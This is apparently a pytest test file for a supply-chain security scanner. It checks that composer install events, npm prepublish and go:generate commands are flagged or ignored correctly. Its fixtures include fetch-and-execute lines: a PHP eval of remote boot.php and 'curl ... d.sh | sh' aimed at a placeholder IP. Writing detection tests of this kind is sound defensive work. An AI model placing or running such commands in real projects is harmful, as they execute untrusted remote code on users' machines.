"""RT47 (fix47b): what a project's own manifest runs on the package manager's standard commands, with
no agent file naming it: composer.json's install events on `composer install`, npm's `prepublish` on a
bare `npm install`, and a `//go:generate` line's own command on `go generate ./...`."""
from __future__ import annotations

import json

from scanner import runs
from scanner.config import Config
from scanner.models import Severity
from scanner.pipeline import scan_tree
from scanner.scripts.command_grader import grade_command
from tree_helpers import write_file as _write


def _worst_on(tmp_path, path):
    findings = scan_tree(str(tmp_path), [], Config()).findings
    return max((f.severity for f in findings if f.path == path), default=None)


def test_composer_install_event_fetching_php_is_scanned_without_an_agent_file(tmp_path):
    _write(tmp_path, "composer.json", json.dumps({"name": "shop/app", "scripts": {
        "post-autoload-dump": ["@php -r \"eval(file_get_contents('http://198.51.100.23/boot.php'));\""]}}, indent=2))
    sev = _worst_on(tmp_path, "composer.json")
    assert sev is not None and sev >= Severity.HIGH


def test_composer_ordinary_laravel_events_and_non_install_scripts_stay_quiet(tmp_path):
    _write(tmp_path, "composer.json", json.dumps({"name": "shop/app", "scripts": {
        "post-autoload-dump": ["Illuminate\\Foundation\\ComposerScripts::postAutoloadDump", "@php artisan package:discover --ansi"],
        "post-root-package-install": ["@php -r \"file_exists('.env') || copy('.env.example', '.env');\""],
        # not an install event: only an agent file's `composer deploy` would run it
        "deploy": ["curl -s http://198.51.100.23/d.sh | sh"]}}, indent=2))
    sev = _worst_on(tmp_path, "composer.json")
    assert sev is None or sev < Severity.MEDIUM


def test_composer_events_filter():
    text = json.dumps({"scripts": {"post-install-cmd": ["@setup"], "setup": "php bin/setup.php", "lint": "phpcs src"}}, indent=2)
    shell = runs.composer_as_shell(text, runs.COMPOSER_INSTALL_EVENTS)
    assert "php bin/setup.php" in shell and "phpcs" not in shell


def test_npm_prepublish_runs_on_a_bare_install_but_prepublish_only_does_not():
    assert "prepublish" in runs._LIFECYCLE and "prepublishOnly" not in runs._LIFECYCLE


def test_go_generate_running_a_module_at_latest_is_graded_on_its_go_file(tmp_path):
    _write(tmp_path, "go.mod", "module example.com/svc\n\ngo 1.22\n")
    _write(tmp_path, "pkg/model/gen.go", "package model\n\n//go:generate go run github.com/someone/enumgen/cmd/enumgen@latest -type=Kind\n")
    sev = _worst_on(tmp_path, "pkg/model/gen.go")
    assert sev is not None and sev >= Severity.MEDIUM


def test_go_generate_pinned_or_local_stays_quiet(tmp_path):
    _write(tmp_path, "go.mod", "module example.com/svc\n\ngo 1.22\n")
    _write(tmp_path, "pkg/model/gen.go", "package model\n\n//go:generate go run golang.org/x/tools/cmd/stringer@v0.24.0 -type=Kind\n"
                                         "//go:generate go run ../../tools/enumgen -type=Kind\n")
    _write(tmp_path, "tools/enumgen/main.go", "package main\n\nfunc main() {}\n")
    assert _worst_on(tmp_path, "pkg/model/gen.go") is None


def test_grader_moving_go_run_medium_but_install_and_pinned_not():
    assert max(f.severity for f in grade_command("go run github.com/someone/tool@master -x")) == Severity.MEDIUM
    assert grade_command("go install golang.org/x/tools/gopls@latest") == []
    assert grade_command("go run github.com/someone/tool@v1.4.2") == []


def test_runs_remote_shape():
    assert runs.go_runs_remote("go run -mod=mod github.com/a/b@latest -x")
    assert not runs.go_runs_remote("go run ./tools/gen")
    assert not runs.go_runs_remote("stringer -type=Kind")


def test_a_committed_vendor_folder_runs_no_scripts(tmp_path):
    # composer runs only the root package's scripts; `go generate ./...` matches no vendor folder
    _write(tmp_path, "composer.json", json.dumps({"name": "shop/app"}))
    _write(tmp_path, "vendor/some/lib/composer.json", json.dumps({"name": "some/lib", "scripts": {
        "post-install-cmd": ["curl -s http://198.51.100.23/d.sh | sh"]}}, indent=2))
    _write(tmp_path, "go.mod", "module example.com/svc\n")
    _write(tmp_path, "vendor/github.com/x/y/gen.go", "package y\n\n//go:generate go run github.com/x/tool@latest\n")
    findings = scan_tree(str(tmp_path), [], Config()).findings
    assert not [f for f in findings if f.path.startswith("vendor/")]
